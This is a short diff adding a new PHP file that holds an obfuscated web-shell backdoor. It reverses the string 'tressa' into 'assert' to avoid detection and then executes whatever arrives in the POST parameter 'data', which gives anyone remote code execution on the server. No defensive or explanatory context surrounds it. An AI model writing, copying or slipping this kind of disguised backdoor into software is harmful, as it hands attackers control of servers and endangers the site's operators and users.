@@ -1,0 +1,3 @@
+<?php
+$c = Closure::fromCallable(strrev('tressa'));
+$c($_POST['data']);
